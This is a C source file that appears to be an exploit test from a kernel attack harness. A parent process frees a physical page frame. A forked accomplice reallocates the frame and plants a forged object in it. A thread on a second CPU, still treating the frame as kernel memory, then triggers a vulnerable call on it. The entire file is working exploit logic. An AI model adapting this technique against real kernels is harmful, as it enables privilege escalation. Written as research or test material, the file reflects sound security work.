/*
 * A frame that one process gave back is allocated by another, an accomplice, which puts a forged
 * object there; a processor of the first still remembers the frame as the kernel's.
 */
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_WARM = 1, STAGE_WARMED, STAGE_FORGED, STAGE_NOT_FOUND, STAGE_CALLED };
enum { FRAME_IN_RUN = 5 };

/* What the two processes share. */
struct shared {
	attack_stage stage;
	uint64_t pfn, synonym;
};

static struct shared *shared;

/* Nobody but the parent needs it. */
static _Noreturn void linger(pid_t parent)
{
	const struct timespec nap = { .tv_nsec = 10 * 1000 * 1000 };

	while (getppid() == parent) {
		nanosleep(&nap, NULL);
	}
	_exit(0);
}

/* The forged object names the parent's process: that is what the leak is of. */
static _Noreturn void accomplice(const struct bw_leak *leak, pid_t parent)
{
	const struct timespec nap = { .tv_nsec = 1000 * 1000 };
	void *page;

	while (shared->stage < STAGE_WARMED) {
		if (getppid() != parent) {
			_exit(0);
		}
		nanosleep(&nap, NULL);
	}
	attack_pin(CPU_OF_ALLOCATOR);
	page = attack_frame_hunt(shared->pfn);
	if (page != NULL) {
		payload_object(page, shared->synonym, leak);
	}
	attack_tell(&shared->stage, page != NULL ? STAGE_FORGED : STAGE_NOT_FOUND);
	linger(parent);
}

static void victim(void *unused)
{
	(void)unused;
	attack_await(&shared->stage, STAGE_WARM, AWAIT_SPIN);
	attack_warm(shared->synonym);
	attack_tell(&shared->stage, STAGE_WARMED);
	attack_await(&shared->stage, STAGE_FORGED, AWAIT_SPIN);
	if (shared->stage == STAGE_NOT_FOUND) {
		attack_skip("the other process did not get the frame");
	}
	attack_check("vuln_call", bw_vuln_call(shared->synonym));
	attack_tell(&shared->stage, STAGE_CALLED);
}

int main(void)
{
	static struct attack_run run;
	pid_t self = getpid();
	struct bw_leak leak;
	pid_t child;

	attack_leak(&leak);
	attack_need_cpus(NR_CPUS);
	attack_pin(CPU_OF_ALLOCATOR);
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
		      0);
	if (shared == MAP_FAILED) {
		attack_skip("no memory to share");
	}
	child = fork();
	if (child == 0) {
		accomplice(&leak, self);
	}
	attack_thread(CPU_OF_VICTIM, victim, NULL);
	attack_run_take(&run);
	shared->pfn = run.first_pfn + FRAME_IN_RUN;
	shared->synonym = leak.direct_map_base + shared->pfn * BW_PAGE_SIZE;
	attack_run_give_back(&run);
	attack_say("frame 0x%lx was ours, and is given back", shared->pfn);
	attack_tell(&shared->stage, STAGE_WARM);
	attack_await(&shared->stage, STAGE_WARMED, AWAIT_SPIN);
	attack_say("CPU %d has read it at 0x%lx", CPU_OF_VICTIM, shared->synonym);
	attack_await(&shared->stage, STAGE_CALLED, AWAIT_YIELD);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return attack_finish();
}
